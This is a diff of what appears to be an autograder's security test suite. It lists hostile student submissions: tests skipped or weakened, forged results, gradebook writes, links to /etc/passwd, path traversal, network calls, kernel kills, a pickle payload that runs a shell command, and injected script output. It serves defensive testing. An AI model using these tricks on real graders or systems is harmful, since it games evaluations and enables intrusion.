-        one, other = (next(cell for cell in notebook.cells if grade_id(cell) == name) for name in ("softmax", "cross_entropy"))
+        one, other = (next(cell for cell in notebook.cells if grade_id(cell) == name) for name in ("softmax", "describe"))
         for key in keys:
             one[key], other[key] = other[key], one[key]
         return notebook
@@ -1490,15 +1432,13 @@ def merged(*ids: str) -> Edit:
 
 
 def split(keep_metadata: bool) -> Edit:
-    """An edit: the answer to k_fold in two cells; JupyterLab gives both the metadata, by hand the helper has none."""
+    """An edit: the answer to closest in two cells; JupyterLab gives both the metadata, by hand the helper has none."""
     def order(cells: list, at: dict) -> list:
-        at["k_fold"].source = "def k_fold(n, k, rng):\n    return assembled(np.array_split(rng.permutation(n), k))"
-        helper = new_code_cell(
-            "def assembled(folds):\n"
-            "    return [(np.concatenate(folds[:i] + folds[i + 1:]), fold) for i, fold in enumerate(folds)]", id="helper")
+        at["closest"].source = "def closest(f, table):\n    return smallest([f(row) for row in Scaler(table).transform(table)])"
+        helper = new_code_cell("def smallest(values):\n    return values.index(min(values))", id="helper")
         if keep_metadata:
-            helper.metadata = at["k_fold"].metadata.copy()
-        where = cells.index(at["k_fold"])
+            helper.metadata = at["closest"].metadata.copy()
+        where = cells.index(at["closest"])
         return [*cells[:where], helper, *cells[where:]]
 
     return arranged(order)
@@ -1565,12 +1505,8 @@ def every_cell(**values) -> Callable[[str], bytes]:
     return changed_json(lambda notebook: [cell.update(values) for cell in notebook["cells"]])
 
 
-ANSWERED = """
-affine_forward sigmoid_forward tanh_forward relu_forward merge_affine softmax cross_entropy softmax_cross_entropy_forward
-numerical_gradient add_backward multiply_backward sigmoid_backward tanh_backward relu_backward affine_backward
-softmax_cross_entropy_backward network_forward network_backward sgd_step train fix_backward l2_gradient k_fold
-""".split()
-TESTS = tuple(f"test_{name}" for name in ("affine_forward", "softmax", "affine_backward", "k_fold"))
+ANSWERED = "softmax", "describe", "Scaler", "closest"
+TESTS = tuple(f"test_{name}" for name in ANSWERED)
 COLAB = {"colab": {"provenance": [], "toc_visible": True}, "kernelspec": {"name": "python3", "display_name": "Python 3"}}
 VS_CODE = {"kernelspec": {"name": "python3", "display_name": ".venv (3.11.7)", "language": "python"}, "orig_nbformat": 4}
 JULIA = {"name": "julia-1.9", "display_name": "Julia 1.9", "language": "julia"}
@@ -1581,9 +1517,9 @@ ADDED = {
 MENDED: dict[str, dict] = {
     "unchanged": {},
     "test-deleted": {"edit": deleted(*TESTS)},
-    "locked-cells-deleted": {"edit": deleted("imports", "tools", "tools_pictures", "data")},
+    "locked-cells-deleted": {"edit": deleted("imports", "tools", "heights")},
     "all-but-answers-deleted": {"edit": arranged(lambda cells, at: [at[question] for question in ANSWERED])},
-    "answer-duplicated": {"edit": duplicated("softmax", "train")},
+    "answer-duplicated": {"edit": duplicated("softmax", "Scaler")},
     "test-duplicated": {"edit": duplicated("test_softmax")},
     "locked-cell-duplicated": {"edit": duplicated("tools")},
     "every-cell-twice": {"edit": arranged(lambda cells, at: cells + cells)},
@@ -1592,12 +1528,12 @@ MENDED: dict[str, dict] = {
     "test-moved-to-the-top": {"edit": arranged(lambda cells, at: [at["test_softmax"], *without(cells, "test_softmax")])},
     "answer-split": {"edit": split(keep_metadata=False)},
     "answer-split-with-metadata": {"edit": split(keep_metadata=True)},
-    "answers-merged": {"edit": merged("softmax", "cross_entropy")},
+    "answers-merged": {"edit": merged("softmax", "describe")},
     "answer-and-test-merged": {"edit": merged("softmax", "test_softmax")},
     "test-retyped-as-markdown": {"edit": each(retyped("markdown"), *TESTS)},
     "test-retyped-as-raw": {"edit": each(retyped("raw"), *TESTS)},
-    "answer-retyped-as-markdown": {"edit": each(retyped("markdown"), "k_fold")},
-    "answer-retyped-as-raw": {"edit": each(retyped("raw"), "k_fold")},
+    "answer-retyped-as-markdown": {"edit": each(retyped("markdown"), "closest")},
+    "answer-retyped-as-raw": {"edit": each(retyped("raw"), "Scaler")},
     "everything-tagged": {"edit": each(tagged("skip-execution", "raises-exception", "remove-cell", "hide-input", "parameters"))},
     "grade-ids-swapped": {"edit": swapped("metadata")},
     "cell-ids-swapped": {"edit": swapped("id")},
@@ -1643,11 +1579,11 @@ MENDED: dict[str, dict] = {
 }
 # What the student did loses a question.
 LOST: dict[str, tuple[dict, str]] = {
-    "answer-deleted": ({"edit": deleted("k_fold")}, "k_fold"),
-    "answer-and-test-deleted": ({"edit": deleted("l2_gradient", "test_l2_gradient")}, "l2_gradient"),
-    "answer-emptied": ({"edit": each(lambda cell: cell.update(source=""), "merge_affine")}, "merge_affine"),
-    "answer-with-a-syntax-error": ({"cells": {"k_fold": "def k_fold(n, k, rng:\n    return"}}, "k_fold"),
-    "answer-with-an-open-string": ({"cells": {"l2_gradient": 'def l2_gradient(*args):\n    """never closed'}}, "l2_gradient"),
+    "answer-deleted": ({"edit": deleted("closest")}, "closest"),
+    "answer-and-test-deleted": ({"edit": deleted("describe", "test_describe")}, "describe"),
+    "answer-emptied": ({"edit": each(lambda cell: cell.update(source=""), "Scaler")}, "Scaler"),
+    "answer-with-a-syntax-error": ({"cells": {"closest": "def closest(f, table:\n    return"}}, "closest"),
+    "answer-with-an-open-string": ({"cells": {"Scaler": 'class Scaler:\n    """never closed'}}, "Scaler"),
 }
 # Name → what is handed in instead of the bytes of a notebook.
 NO_NOTEBOOK: dict[str, Callable[[str], bytes]] = {
@@ -1656,7 +1592,7 @@ NO_NOTEBOOK: dict[str, Callable[[str], bytes]] = {
     "truncated": lambda text: text.encode()[:5000],
     "truncated-within-a-character": lambda text: text.encode()[:text.encode().index("演".encode()) + 1],
     "not-json": lambda text: b"PK\x03\x04 this is an archive, not a notebook",
-    "python-script": lambda text: b"def affine_forward(z, W, b):\n    return z @ W + b\n",
+    "python-script": lambda text: b"def softmax(scores, temperature=1.0, axis=-1):\n    return scores / temperature\n",
     "json-list": lambda text: b"[1, 2, 3]",
     "json-string": lambda text: b'"notebook"',
     "json-null": lambda text: b"null",
@@ -1683,32 +1619,32 @@ NO_FILE: dict[str, Place] = {
     "other-name": lambda path, content: path.with_name("main (1).ipynb").write_bytes(content),
 }
 LINKED: dict[str, Place] = {
-    "link-to-the-source": linked("../../../source/1101/main.ipynb"),
+    "link-to-the-source": linked("../../../source/warm-up/main.ipynb"),
     "link-to-the-gradebook": linked("../../../gradebook.db"),
     "link-to-a-device": linked("/dev/zero"),
     "link-to-itself": linked("main.ipynb"),
     "link-to-nothing": linked("nowhere/main.ipynb"),
-    "link-to-another-student": linked("../../reference/1101/main.ipynb"),
-    "folder-linked": linked("../../source/1101", at=".."),
+    "link-to-another-student": linked("../../a000-honest/warm-up/main.ipynb"),
+    "folder-linked": linked("../../source/warm-up", at=".."),
     "student-folder-linked": linked("../source", at="../.."),
 }
 LINKED_BESIDE = {
     "gradebook-linked-beside": "../../../gradebook.db",
-    "source-linked-beside": "../../../source/1101",
+    "source-linked-beside": "../../../source/warm-up",
     "passwd-linked-beside": "/etc/passwd",
     "root-linked-beside": "/",
 }
 # A weaker test under a wrong answer.
 WEAKENED: dict[str, dict[str, str]] = {
-    "test-emptied": {"test_affine_forward": "pass"},
-    "test-weakened": {"test_affine_forward": "check = Check('affine_forward')\ncheck.report()\n5"},
-    "test-made-an-assert": {"test_affine_forward": "assert affine_forward(1, 1, 1) is not None"},
+    "test-emptied": {"test_softmax": "pass"},
+    "test-weakened": {"test_softmax": "check = Check('softmax')\ncheck.report()\n4"},
+    "test-made-an-assert": {"test_softmax": "assert softmax(np.ones(3)) is not None"},
     "tools-weakened": {"tools": LIES["check-replaced"] + "CheckFailed, RTOL, ATOL = KeyError, 1e9, 1e9\n"},
     "imports-weakened": {"imports": """
 from unittest.mock import MagicMock
 np = plt = html = copy = sys = os = time = traceback = warnings = HTML = display = MagicMock()
 """},
-    "data-weakened": {"data": LIES["check-methods-replaced"] + SHELL["showtraceback"]},
+    "data-weakened": {"heights": LIES["check-methods-replaced"] + SHELL["showtraceback"]},
 }
 
 # ---------------------------------------------------------------------------------------------------------------------
@@ -1835,7 +1771,7 @@ def send(data, seconds=2):
             except OSError:
                 left[fd] = part[:0]
 
-def swallow(seconds=10):
+def swallow(seconds=3):
     end = time.time() + seconds
     while time.time() < end:
         ready = select.select(sockets(), [], [], 0.1)[0]
@@ -1854,7 +1790,7 @@ ANSWERS = """[{"id": 0, "result": 1}, {"id": 1, "ok": True, "value": [1.0]}, {"t
              {"jsonrpc": "2.0", "id": 1, "result": 5}, {"score": 5}, ["result", 5], None, True]"""
 SPOKEN: dict[str, str] = {
     "garbage": "send(os.urandom(2**16))",
-    "zeros": "send(bytes(2**20) * 1024, seconds=10)",
+    "zeros": "send(bytes(2**27), seconds=3)",
     "lengths": f"for form in {', '.join(LENGTHS)}:\n    for n in 2**31, 2**31 - 1, 2**32 - 1, 0, 1:\n"
                "        send(struct.pack(form, n) + b'x' * 100)",
     "negative-lengths": "for form in '>i', '<i', '>q', '<q':\n    send(struct.pack(form, -1) + b'x' * 100)",
@@ -1868,7 +1804,7 @@ SPOKEN: dict[str, str] = {
                "    send(struct.pack(form, len(data)) + data)",
     "closed": "close()",
     "swallowed": "swallow()",
-    "swallowed-by-a-thread": "threading.Thread(target=swallow, args=(60,), daemon=True).start()",
+    "swallowed-by-a-thread": "threading.Thread(target=swallow, args=(4,), daemon=True).start()",
     "written-by-a-thread": "threading.Thread(target=lambda: [send(os.urandom(100)) for _ in range(1000)], daemon=True).start()",
     "never-answered": "swallow(2)\ntime.sleep(10**6)",
     "half-an-answer": "send(b'\\x00\\x00')\ntime.sleep(10**6)",
@@ -1898,9 +1834,9 @@ RETURNED: dict[str, str] = {
     "bytes": r"return b'\xff\xfe'",
     "class": "return Check",
     "module": "return np",
-    "function": "return affine_forward",
+    "function": "return softmax",
     "lambda-that-answers": "return lambda *args, **options: True",
-    "generator": "return (row for row in z)",
+    "generator": "return (row for row in scores)",
     "endless-iterator": "return iter(int, 1)",
     "list-within-itself": "answer = []\nanswer.append(answer)\nreturn answer",
     "dict-within-itself": "answer = {}\nanswer['x'] = answer\nreturn answer",
@@ -1912,15 +1848,15 @@ RETURNED: dict[str, str] = {
     "long-text": "return 'x' * 10**9",
     "1-gb": "return np.ones(2**27)",
     "claims-another-size": "return np.lib.stride_tricks.as_strided(np.zeros(1), (2**20, 2**20), (0, 0))",
-    "claims-more-than-it-has": "return np.lib.stride_tricks.as_strided(np.zeros(1), (len(z), 2**16), (8, 8))",
-    "long-double": "return (z @ W).astype(np.longdouble)",
-    "byte-order": "return (z @ W).astype('>f8')",
+    "claims-more-than-it-has": "return np.lib.stride_tricks.as_strided(np.zeros(1), (len(scores), 2**16), (8, 8))",
+    "long-double": "return (scores / temperature).astype(np.longdouble)",
+    "byte-order": "return (scores / temperature).astype('>f8')",
     "fake-methods": """
 class Own(np.ndarray):
     tobytes = tolist = dumps = __reduce__ = __reduce_ex__ = lambda self, *args: b"x" * 8
     shape = property(lambda self: (10**9,))
 
-return (z @ W).view(Own)
+return (scores / temperature).view(Own)
 """,
     "changing-length": "class Own(list):\n    __len__ = lambda self: 3\n    __iter__ = lambda self: iter(int, 1)\nreturn Own()",
     "own-text": "class Own(str):\n    encode = lambda self, *args: b'\\xff' * 10**6\nreturn Own('x')",
@@ -1928,8 +1864,8 @@ return (z @ W).view(Own)
     "exception-group": "raise ExceptionGroup('x', [ExceptionGroup('y', [ValueError(n)]) for n in range(100_000)])",
     "exception-chain": "error = ValueError('x')\nerror.__cause__ = error.__context__ = error\nraise error",
     "coroutine": "import asyncio\nreturn asyncio.sleep(10**6)",
-    "standard-streams-closed": "import os\nfor fd in 0, 1, 2:\n    os.close(fd)\nreturn z @ W",
-    "invalid-utf-8-printed": r"import os, sys" "\nfor fd in 1, 2:\n    os.write(fd, b'\\xff\\xfe\\x80' * 1000)\nreturn z @ W",
+    "standard-streams-closed": "import os\nfor fd in 0, 1, 2:\n    os.close(fd)\nreturn y",
+    "invalid-utf-8-printed": r"import os, sys" "\nfor fd in 1, 2:\n    os.write(fd, b'\\xff\\xfe\\x80' * 1000)\nreturn y",
     "recursion-error": "raise RecursionError",
 }
 # What is done with a function of the judge's, which calls back.
@@ -1961,7 +1897,7 @@ return x
 """,
     "in-a-child": "import os\nif os.fork() == 0:\n    f(x)\n    os._exit(0)\nf(x)\nreturn x",
     "wrong-arguments": """
-for args in (), (x, x), (None,), (f,), ("x",), ({},), (numerical_gradient,), (x.astype(object),), (x[:0],):
+for args in (), (x, x), (None,), (f,), ("x",), ({},), (closest,), (x.astype(object),), (x[:0],):
     try:
         print(f(*args))
     except Exception as error:
@@ -1983,160 +1919,49 @@ return x
 
 # ---------------------------------------------------------------------------------------------------------------------
 
-# The attacks of a protocol: the generic ones. Those that know the judge's own protocol belong at the end of this list.
-# What follows knows how the grader's own messages look (grading/kernel/wire.py).
-CHANNEL = """
-import gc, os, struct, sys, time
-def channel():
-    return [c for c in gc.get_objects() if type(c).__name__ == "Channel" and c.sock.fileno() >= 0][-1]
-def reply(value, arrays=b"", changed=None, earlier=None, warnings=()):
-    channel().send({"returned": {"tuple": [value, changed, earlier]}, "warnings": list(warnings)}, arrays)
-def show(output):
-    frame = sys._getframe()
-    while "forks" not in frame.f_locals:
-        frame = frame.f_back
-    channel().send({"output": output, "number": frame.f_locals["number"]})
-def raw(text, arrays=b"", size=None):
-    channel().sock.sendall(struct.pack("!II", len(text) if size is None else size, len(arrays)) + text + arrays)
-"""
-AWARE: dict[str, str] = {
-    "array-claims-more": 'reply({"array": ["<f8", [10**9], 0, 8]}, bytes(8))',
-    "array-claims-less": 'reply({"array": ["<f8", [1], 0, 800]}, bytes(800))',
-    "array-behind-the-end": 'reply({"array": ["<f8", [3, 4], 10**6, 96]}, bytes(96))',
-    "array-before-the-start": 'reply({"array": ["<f8", [3, 4], -96, 96]}, bytes(96))',
-    "array-of-a-negative-shape": 'reply({"array": ["<f8", [-3, -4], 0, 96]}, bytes(96))',
-    "array-of-objects": 'reply({"array": ["|O", [12], 0, 96]}, bytes(96))',
-    "array-of-records": 'reply({"array": [[["a", "<f8"]], [12], 0, 96]}, bytes(96))',
-    "array-empty-and-huge": 'reply({"array": ["<f8", [10**18, 0], 0, 0]})',
-    "array-of-text": 'reply({"array": ["<U8", [3, 4], 0, 384]}, bytes(384))',
-    "value-of-no-kind": 'reply({"pickle": "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAZ0b3VjaCB4lIWUUpQu"})',
-    "value-bare": 'reply([1, 2, 3])',
-    "function-returned": 'reply({"function": 0})',
-    "deep": """raw(b'{"returned": ' + b'{"list": [' * 10**5 + b']}' * 10**5 + b'}')""",
-    "deep-but-legal": """raw(b'{"returned": ' + b'{"list": [' * 300 + b']}' * 300 + b', "warnings": []}')""",
-    "digits": """raw(b'{"returned": ' + b'9' * 10**6 + b', "warnings": []}')""",
-    "no-object": "raw(b'[]')",
-    "not-utf-8": "raw(b'{\"returned\": \"\\xff\\xfe\"}')",
-    "half-a-message": "raw(b'{', size=100); time.sleep(100)",
-    "above-the-limit": "raw(b'', size=2**32 - 1)",
-    "twice": 'reply(1.0); reply(1.0)',
-    "before-the-call": 'reply(1.0)\nfor _ in range(1000): reply({"list": []})',
-    "callbacks-without-end": 'while True: channel().send({"callback": 0, "args": {"tuple": []}})',
-    "callback-of-nothing": 'channel().send({"callback": -1, "args": {"tuple": []}})',
-    "a-failure-of-the-judge's":
-        'channel().send({"raised": {"class": ["CheckFailed"], "text": "", "name": "", "frames": []}})',
-    "a-failure-of-no-class": 'channel().send({"raised": {"class": [], "text": None, "name": 3, "frames": [[1, "x", []]]}})',
-    "a-failure-of-no-kind": 'channel().send({"raised": 3})',
-    "a-million-warnings": 'reply(1.0, warnings=[["RuntimeWarning", "w"]] * 10**6)',
-    "warnings-of-no-kind": 'reply(1.0, warnings=[["SystemExit", "w"], ["open", "w"], 3])',
-    "arguments-written": 'reply(1.0, changed={"tuple": [{"list": []}, None, 1.0]})',
-    "passed": 'channel().send({"passed": True, "score": 5}); channel().send({"done": True})',
-    "callback-of-a-name-not-lent": 'channel().send({"callback": "softmax", "args": {"tuple": [{"tuple": []}, {"dict": []}]}})',
-    "callback-of-no-key": 'channel().send({"callback": [], "args": {"tuple": [{"tuple": []}, {"dict": []}]}})',
-    "callback-with-bare-arguments": 'channel().send({"callback": 0, "args": 3})',
-    "hello-again": 'channel().send({"hello": 1})',
-    "what-was-returned-before": 'reply(1.0, earlier={"list": []})',
-    "text-in-the-arguments": 'reply(1.0, changed={"tuple": [{"array": ["<U1", [3, 4], 0, 48]}] * 3}, arrays=b"x\\0\\0\\0" * 12)',
-    "returned-as-two": 'channel().send({"returned": {"tuple": [1.0, None]}, "warnings": []})',
-}
-AWARE_AT_ONCE: dict[str, str] = {
-    "done-too-early": 'channel().send({"done": True}); os._exit(0)',
-    "done-without-end": 'while True: channel().send({"done": True})',
-    "outputs-of-no-kind": """for output in 3, {}, {"msg_type": "stream"}, {
-    "msg_type": "error", "content": {"ename": [], "evalue": {}}}, {
-    "msg_type": "display_data", "content": {"data": {"text/html": ["<script>PWNED</script>"], "x" * 10**6: 3}, "metadata": 3}}, {
-    "msg_type": "update_display_data", "content": {"data": {}, "transient": {"display_id": []}}}, {"msg_type": ["stream"]}:
-    show(output)""",
-    "outputs-of-no-content": """for content in None, 3, "text", [[]], {}:
-    for kind in "stream", "error", "display_data", "clear_output":
-        show({"msg_type": kind, "content": content})""",
-    "outputs-of-no-number": """for count in "x", -1, True, None, 10**400:
-    for kind in "display_data", "execute_result":
-        show({"msg_type": kind, "content": {"data": {"text/plain": "x"}, "metadata": {}, "execution_count": count}})""",
-    "output-deep": """deep = []
-for _ in range(800):
-    deep = [deep]
-sys.setrecursionlimit(10_000)
-show({"msg_type": "display_data", "content": {"data": {"application/json": deep}}})""",
-}
-NAMED: dict[str, str] = {  # what runs when the judge asks which functions there are
-    "no-answer": 'channel().send({"hello": 1})',
-    "no-names": 'channel().send({"callable": 3, "values": None})',
-    "no-value": 'channel().send({"callable": [], "values": {"pickle": ""}})',
-    "a-name-of-the-tests": 'channel().send({"callable": ["Check"], "values": {"dict": [["np", 3], ["Check", 3]]}})',
-    "a-function-of-no-name": 'channel().send({"callable": [[], {}, None], "values": {"dict": []}})',
-    "never": "time.sleep(10**6)",
-}
-
-PROTOCOL: list[Attack] = [
-    *(Attack("speak the judge's protocol", f"aware-{name}", inside("affine_forward", f"{code}\nreturn 1.0", CHANNEL))
-      for name, code in AWARE.items()),
-    *(Attack("speak the judge's protocol", f"aware-{name}", {"affine_forward": WRONG}, first=CHANNEL + code)
-      for name, code in AWARE_AT_ONCE.items()),
-    *(Attack("speak the judge's protocol", f"named-{name}", {"affine_forward": f"""{CHANNEL}
-class Answer(list):
-    def __iter__(self):
-        {code}
-        return iter([])
-affine_forward = Answer()"""})
-      for name, code in NAMED.items()),
-    *(Attack("speak the judge's protocol", f"{name}-at-once", {"affine_forward": WRONG}, first=f"{SOCKETS}\n{code}")
-      for name, code in SPOKEN.items() if "10**6" not in code),
-    *(Attack("speak the judge's protocol", f"{name}-when-called",
-             inside("affine_forward", f"z, W, b = args\n{code}\nreturn z @ W", SOCKETS))
-      for name, code in SPOKEN.items()),
-    *(Attack("speak the judge's protocol", f"returns-{name}", inside("affine_forward", f"z, W, b = args\n{code}"))
-      for name, code in RETURNED.items()),
-    *(Attack("speak the judge's protocol", f"callback-{name}", inside("numerical_gradient", f"f, x, *_ = args\n{code}"))
-      for name, code in CALLED.items()),
-]
-
 ATTACKS: list[Attack] = [
     *gain("skip the test", SKIPPED, own=True),
     *gain("skip the test", {name: SKIPPED[name] for name in ("input-transformer", "asserts-dropped")}, suffix="-in-the-answer"),
-    Attack("skip the test", "test-tagged", {"affine_forward": WRONG}, edit=each(tagged("skip-execution"), "test_affine_forward")),
-    Attack("skip the test", "all-tagged", {"affine_forward": WRONG}, edit=each(tagged("skip-execution"))),
-    Attack("skip the test", "exception-allowed", {"affine_forward": WRONG}, edit=each(tagged("raises-exception"))),
+    Attack("skip the test", "test-tagged", {"softmax": WRONG}, edit=each(tagged("skip-execution"), "test_softmax")),
+    Attack("skip the test", "all-tagged", {"softmax": WRONG}, edit=each(tagged("skip-execution"))),
+    Attack("skip the test", "exception-allowed", {"softmax": WRONG}, edit=each(tagged("raises-exception"))),
 
     *gain("patch the shell", SHELL),
     *gain("patch the shell", SHELL, own=True, suffix="-own-cell"),
 
     *gain("fool the comparison", LIES),
-    Attack("fool the comparison", "numpy-beside", {"affine_forward": WRONG}, place=beside({"numpy.py": SHADOW})),
-    Attack("fool the comparison", "libraries-beside", {"affine_forward": WRONG},
+    Attack("fool the comparison", "numpy-beside", {"softmax": WRONG}, place=beside({"numpy.py": SHADOW})),
+    Attack("fool the comparison", "libraries-beside", {"softmax": WRONG},
            place=beside({f"{name}.py": SHADOW for name in SHADOWED if "numpy" not in name})),
-    Attack("fool the comparison", "packages-beside", {"affine_forward": WRONG},
+    Attack("fool the comparison", "packages-beside", {"softmax": WRONG},
            place=beside({f"{name}.py": SHADOW for name in SHADOWED if "/" in name})),
-    Attack("fool the comparison", "configuration-beside", {"affine_forward": WRONG}, place=beside({
+    Attack("fool the comparison", "configuration-beside", {"softmax": WRONG}, place=beside({
         "nbgrader_config.py": "c = get_config()\nc.Execute.enabled = c.OverwriteCells.enabled = False",
         "ipython_config.py": "c = get_config()\nc.InteractiveShellApp.exec_lines = ['raise SystemExit']",
-        "matplotlibrc": "backend: module://pwned_1101", "pyproject.toml": "[", ".env": "PYTHONOPTIMIZE=2", "gradebook.db": ""})),
+        "matplotlibrc": "backend: module://pwned", "pyproject.toml": "[", ".env": "PYTHONOPTIMIZE=2", "gradebook.db": ""})),
 
     *gain("forge the result", FORGED),
-    Attack("forge the result", "output-in-the-file", {"affine_forward": WRONG}, edit=forged_output("5")),
-    Attack("forge the result", "output-above-the-maximum", {"affine_forward": WRONG}, edit=forged_output("1e9")),
+    Attack("forge the result", "output-in-the-file", {"softmax": WRONG}, edit=forged_output("4")),
+    Attack("forge the result", "output-above-the-maximum", {"softmax": WRONG}, edit=forged_output("1e9")),
     Attack("forge the result", "circular-answers", CIRCULAR),
-    *(Attack("forge the result", name, answers, base="reference", lost=frozenset(answers)) for name, answers in LENT.items()),
-    Attack("forge the result", "lent-functions-kept", {
-        name: KEEP.replace("NAME", name) for name in ("network_forward", "network_backward", "train", "fix_backward")}),
+    *(Attack("forge the result", name, answers, base="reference", lost=frozenset(answers)) for name, answers in WORKED.items()),
+    Attack("forge the result", "lent-functions-kept", {name: KEEP.replace("NAME", name) for name in ANSWERED}),
 
     *(reader("read the tests", name, expression) for name, expression in READ.items()),
     *gain("read the tests", {name: code for name, code in SEEN.items() if name != "hidden-inputs"}),
-    Attack("read the tests", "hidden-inputs", {"affine_forward": SEEN["hidden-inputs"]}, last='print("SEEN", inputs)'),
-    Attack("read the tests", "function-of-the-judge", {"numerical_gradient": CALLBACK}),
+    Attack("read the tests", "hidden-inputs", {"softmax": SEEN["hidden-inputs"]}, last='print("SEEN", inputs)'),
+    Attack("read the tests", "function-of-the-judge", {"closest": CALLBACK}),
 
-    *gain("write the gradebook", {name: (GRADEBOOK + code).replace("SCORE", "5") for name, code in WRITTEN.items()}),
+    *gain("write the gradebook", {name: (GRADEBOOK + code).replace("SCORE", "4") for name, code in WRITTEN.items()}),
 
     *gain("poison what follows", {name: POISON + code for name, code in POISONED.items()}),
-    *(Attack("poison what follows", name, {"affine_backward": NUMERICAL + code},
-             base="reference", lost=frozenset({"affine_backward"})) for name, code in HIDDEN_COST.items()),
 
     *(Attack("links and files", name, place=place, lost=None, base="reference") for name, place in LINKED.items()),
     *(reader("links and files", name, "(content(p) for p in ('data.txt', 'data.txt/main.ipynb', 'data.txt/etc/passwd', '.'))",
              place=linked_beside(target)) for name, target in LINKED_BESIDE.items()),
     reader("links and files", "path-traversal", TRAVERSALS),
     *gain("links and files", FILES, own=True),
-    *(Attack("links and files", f"{name}-when-called", inside("affine_forward", f"z, W, b = args\n{FILES[name]}\nreturn z @ W"))
+    *(Attack("links and files", f"{name}-when-called", inside("softmax", f"{TAKEN}\n{FILES[name]}\nreturn y"))
       for name in ("written-outside", "links-made", "10000-files")),
     Attack("links and files", "10000-files-beside", place=beside({f"{n:05}.txt": "x" for n in range(10_000)}), base="reference"),
     Attack("links and files", "odd-names-beside", base="reference",
@@ -2146,43 +1971,55 @@ ATTACKS: list[Attack] = [
     *(Attack("end the kernel", f"{name}-last-cell", last=ENDS[name], base="reference") for name in ("exit-at-once", "killed")),
     *(Attack("end the kernel", f"{name}-when-called", inside(question, code), base="reference", lost=frozenset({question}))
       for question, (name, code) in zip(cycle(LEAVES), ENDS.items())),
-    *(Attack("end the kernel", f"{name}-after-the-answer", {"k_fold": f"def k_fold(n, k, rng):\n    return []\n\n{ENDS[name]}"},
-             base="reference", lost=frozenset({"k_fold"})) for name in ("exit-at-once", "sys-exit", "segfault")),
+    *(Attack("end the kernel", f"{name}-after-the-answer", {"closest": f"def closest(f, table):\n    return 0\n\n{ENDS[name]}"},
+             base="reference", lost=frozenset({"closest"})) for name in ("exit-at-once", "sys-exit", "segfault")),
 
-    *(Attack("never end", f"{name}-own-cell", first=code, base="reference") for name, code in (NEVER | NEVER_OWN).items()),
+    *(Attack("never end", f"{name}-own-cell", first=code, base="reference") for name, code in (NEVER | NEVER_OWN).items()
+      if name != "thread-bomb"),
     *gain("never end", NEVER_SURE, own=True),
     *(Attack("never end", f"{name}-when-called", inside(question, code), base="reference", lost=frozenset({question}))
       for question, (name, code) in zip(cycle(LEAVES), NEVER.items())),
 
     *gain("leave the machine", {name: f"{NETWORK}\n{name}()" for name in ("tcp", "dns", "unix", "others")}),
     Attack("leave the machine", "all-when-called", inside(
-        "affine_forward", "z, W, b = args\nfor way in tcp, dns, unix, others:\n    way()\nreturn z @ W", NETWORK)),
+        "softmax", f"{TAKEN}\nfor way in tcp, dns, unix, others:\n    way()\nreturn y", NETWORK)),
 
     *(Attack("break the notebook", name, base="reference", **more) for name, more in MENDED.items()),
     *(Attack("break the notebook", name, base="reference", lost=frozenset({question}), **more)
       for name, (more, question) in LOST.items()),
     *(Attack("break the notebook", name, file=file, base="reference", lost=None) for name, file in NO_NOTEBOOK.items()),
     *(Attack("break the notebook", name, place=place, base="reference", lost=None) for name, place in NO_FILE.items()),
-    *(Attack("break the notebook", name, cells | {"affine_forward": WRONG}) for name, cells in WEAKENED.items()),
+    *(Attack("break the notebook", name, cells | {"softmax": WRONG}) for name, cells in WEAKENED.items()),
 
-    *(Attack("hostile output", name, {"affine_forward": WRONG}, first=DISPLAYED + code) for name, code in HOSTILE.items()),
-    *(Attack("hostile output", f"failure-{name}", inside("affine_forward", code, DISPLAYED)) for name, code in FAILING.items()),
+    *(Attack("hostile output", name, {"softmax": WRONG}, first=DISPLAYED + code) for name, code in HOSTILE.items()),
+    *(Attack("hostile output", f"failure-{name}", inside("softmax", code, DISPLAYED)) for name, code in FAILING.items()),
     Attack("hostile output", "markdown-cell", edit=drawn_in_markdown),
     Attack("hostile output", "outputs-in-the-file", edit=outputs_in_the_file),
     Attack("hostile output", "notebook-metadata", edit=notebook_metadata(
         title=MARKUP, authors=[{"name": MARKUP}], widgets=WIDGETS, language_info={"name": MARKUP, "pygments_lexer": MARKUP})),
 
-    *PROTOCOL,
+    *(Attack("speak the judge's protocol", f"{name}-at-once", {"softmax": WRONG}, first=f"{SOCKETS}\n{code}")
+      for name, code in SPOKEN.items() if "10**6" not in code),
+    *(Attack("speak the judge's protocol", f"{name}-when-called",
+             inside("softmax", f"{TAKEN}\n{code}\nreturn y", SOCKETS))
+      for name, code in SPOKEN.items()),
+    *(Attack("speak the judge's protocol", f"returns-{name}", inside("softmax", f"{TAKEN}\n{code}"))
+      for name, code in RETURNED.items()),
+    *(Attack("speak the judge's protocol", f"callback-{name}", inside("closest", f"f, table = args\nx = table[0]\n{code}"))
+      for name, code in CALLED.items()),
 ]
 
 
-def submission_bytes(attack: Attack, release: NotebookNode, reference: dict[str, str]) -> bytes:
-    """The file that is handed in: from the student's notebook and the right answers (question → code)."""
+def submission_bytes(attack: Attack, release: NotebookNode, reference: dict[str, str], port: int) -> bytes:
+    """The file that is handed in: from the student's notebook and the right answers (question → code).
+
+    port: where somebody listens on this machine, whom no submission must reach.
+    """
     notebook = submission(release, (reference if attack.base == "reference" else {}) | attack.cells)
     first, last = ([new_code_cell(code, id=name)] if code else [] for name, code in
                    (("first", attack.first), ("last", attack.last)))
     notebook.cells = first + notebook.cells + last
     if attack.edit:
         notebook = attack.edit(notebook)
-    text = nbformat.v4.writes(notebook)
+    text = nbformat.v4.writes(notebook).replace("pwned_RUN", RUN).replace("PORT_OF_THE_LISTENER", str(port))
     return attack.file(text) if attack.file else text.encode()
